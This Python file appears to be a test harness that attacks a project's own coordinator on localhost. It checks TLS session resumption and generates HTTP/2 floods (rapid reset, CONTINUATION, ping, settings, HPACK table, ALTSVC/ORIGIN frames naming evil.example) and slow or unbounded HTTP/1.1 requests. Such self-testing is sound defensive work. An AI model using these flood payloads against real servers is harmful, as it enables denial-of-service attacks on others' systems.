"""Attacks on the coordinator's TLS listeners that a gRPC client cannot make.

usage: attacks.py resume PORT IDENTITY REQUEST FIFO
       attacks.py flood PORT NAME ROOTS KIND [IDENTITY]
       attacks.py http PORT NAME ROOTS KIND

resume: asks for a renewal as the host of IDENTITY (a worker's identity.json), prints `served` or `refused`, opens
FIFO and reads it to its end, asks again over a resumed TLS session, and prints whether the session was resumed and what
the answer was. If TLS has refused, and not the call, the name of TLS's alert stands after `refused`.

flood: opens a connection without a credential, or with the certificate of a host (IDENTITY is a worker's
identity.json), sends 20,000 frames of one KIND, and prints how it ended. What the coordinator answers is not read: that
is part of the attack.

http: sends a request of HTTP/1.1 that does not end, of one KIND, over TLS, and prints how it ended.
"""
import json, socket, ssl, struct, sys, tempfile

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
ALTSVC, ORIGIN = 10, 12  # RFC 7838, RFC 8336


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def field(name, value):
    """A header field that no table keeps (RFC 7541, section 6.2.2)."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def head(path, authority):
    return (
        b"\x83\x87" + b"\x04" + bytes([len(path)]) + path + b"\x01" + bytes([len(authority)]) + authority
        + field(b"content-type", b"application/grpc") + field(b"te", b"trailers"))


def context(roots, certificate=None, key=None):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.load_verify_locations(cadata=roots)
    context.set_alpn_protocols(["h2"])
    if certificate:
        with tempfile.NamedTemporaryFile("w") as file:
            file.write(certificate + "\n" + key)
            file.flush()
            context.load_cert_chain(file.name)
    return context


def connect(context, port, name, session=None):
    connection = context.wrap_socket(
        socket.create_connection(("127.0.0.1", port)), server_hostname=name, session=session)
    connection.settimeout(60)
    return connection


def frames(connection):
    buffer = b""
    while True:
        while len(buffer) < 9 or len(buffer) < 9 + int.from_bytes(buffer[:3], "big"):
            try:
                part = connection.recv(65536)
            except ConnectionError:
                return
            if not part:
                return
            buffer += part
        length = int.from_bytes(buffer[:3], "big")
        yield buffer[3], buffer[4], int.from_bytes(buffer[5:9], "big"), buffer[9:9 + length]
        buffer = buffer[9 + length:]


def renew(context, port, name, request, session=None):
    """Returns the answer, the session, and whether it was resumed. Only a call that is served is answered with data."""
    try:
        connection = connect(context, port, name, session)
        length = len(request)
        message = b"\x0a" + bytes([length & 0x7F | 0x80, length >> 7] if length > 127 else [length]) + request
        connection.sendall(
            PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 4, 1, head(b"/baton.v1.Workers/Renew", name.encode()))
            + frame(DATA, 1, 1, b"\x00" + struct.pack(">I", len(message)) + message))
        served = False
        for kind, flags, stream, _ in frames(connection):
            if kind == SETTINGS and not flags & 1:
                connection.sendall(frame(SETTINGS, 1, 0))
            served = served or (kind == DATA and stream == 1)
            if stream == 1 and (kind == RST_STREAM or flags & 1 and kind in (DATA, HEADERS)):
                break
        return ("served" if served else "refused"), connection.session, connection.session_reused
    except ssl.SSLError as error:
        return f"refused {error.reason}", None, False
    except ConnectionError:
        return "refused", None, False


def resume(port, identity, request, fifo):
    identity = json.load(open(identity))
    name = identity["fleet"] + ".coordinator.baton"
    tls = context("\n".join(identity["roots"]), identity["certificate"], identity["key"])
    answer, session, _ = renew(tls, port, name, request)
    print(answer, flush=True)
    open(fifo).read()
    answer, _, reused = renew(tls, port, name, request, session)
    print("resumed" if reused else "not resumed", answer, flush=True)


def flood(port, name, roots, kind, identity=None):
    identity = json.load(open(identity)) if identity else {}
    connection = connect(context(open(roots).read(), identity.get("certificate"), identity.get("key")), port, name)
    start = head(b"/baton.v1.Operators/List", name.encode())
    bursts = {
        "reset": lambda n: frame(HEADERS, 4, 2 * n + 1, start) + frame(RST_STREAM, 0, 2 * n + 1, b"\0\0\0\x08"),
        "streams": lambda n: frame(HEADERS, 4, 2 * n + 1, start),
        "continuation": lambda n: frame(HEADERS, 0, 1, start) if n == 0 else frame(CONTINUATION, 0, 1, field(b"a", b"b" * 64)),
        "empty-continuation": lambda n: frame(HEADERS, 0, 1, start) if n == 0 else frame(CONTINUATION, 0, 1),
        "settings": lambda n: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)),
        "ping": lambda n: frame(PING, 0, 0, b"12345678"),
        "priority": lambda n: frame(PRIORITY, 0, 2 * n + 3, struct.pack(">IB", 0, 1)),
        "empty-data": lambda n: frame(HEADERS, 4, 1, start) if n == 0 else frame(DATA, 0, 1),
        "window": lambda n: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF)),
        "unfinished": lambda n: frame(HEADERS, 4, 2 * n + 1, start) + frame(DATA, 0, 2 * n + 1, b"\0\0\xff\xff\xff"),
        "altsvc": lambda n: frame(ALTSVC, 0, 0, b"\0\x05https" + b'h2="evil.example:443"; ma=86400'),
        "origin": lambda n: frame(ORIGIN, 0, 0, b"\0\x14https://evil.example"),
        "table": lambda n: frame(HEADERS, 4, 2 * n + 1, start + b"\x40\x01a\x7f\x00" + b"b" * 127 + b"\xbe" * 512),
    }
    burst = bursts[kind]
    greeting = PREFACE + frame(SETTINGS, 0, 0)
    pour(connection, greeting, lambda first: b"".join(burst(n) for n in range(first, first + 100)), "frames")


def http(port, name, roots, kind):
    tls = context(open(roots).read())
    tls.set_alpn_protocols(["http/1.1"])
    connection = connect(tls, port, name)
    head = b"POST /v1/pokes/com.example.x HTTP/1.1\r\nHost: x\r\n"
    floods = {
        "headers": (head, lambda n: b"".join(b"a%d: %s\r\n" % (n + i, b"b" * 64) for i in range(100))),
        "header": (head + b"a: ", lambda n: b"b" * 6400),
        "target": (b"GET /", lambda n: b"b" * 6400),
        "body": (head + b"Content-Length: 99999999999\r\n\r\n", lambda n: b"b" * 65536),
        "chunks": (head + b"Transfer-Encoding: chunked\r\n\r\n", lambda n: b"1\r\nb\r\n" * 1000),
        "pipeline": (b"", lambda n: b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n" * 100),
    }
    pour(connection, *floods[kind], "parts")


def pour(connection, greeting, part, unit):
    """Sends the greeting and 200 parts, 100 of the unit each, and prints how it ended."""
    sent, how = 0, "still open"
    connection.settimeout(5)
    try:
        connection.sendall(greeting)
        for first in range(0, 20000, 100):
            connection.sendall(part(first))
            sent = first + 100
    except socket.timeout:
        how = "not read any more"
    except (ssl.SSLError, ConnectionError, OSError):
        how = "closed"
    print(f"{how} after {sent} {unit}", flush=True)


if __name__ == "__main__":
    if sys.argv[1:2] == ["resume"]:
        resume(int(sys.argv[2]), sys.argv[3], open(sys.argv[4], "rb").read(), sys.argv[5])
    elif sys.argv[1:2] == ["flood"]:
        flood(int(sys.argv[2]), *sys.argv[3:])
    elif sys.argv[1:2] == ["http"]:
        http(int(sys.argv[2]), *sys.argv[3:])
    else:
        sys.exit(__doc__)
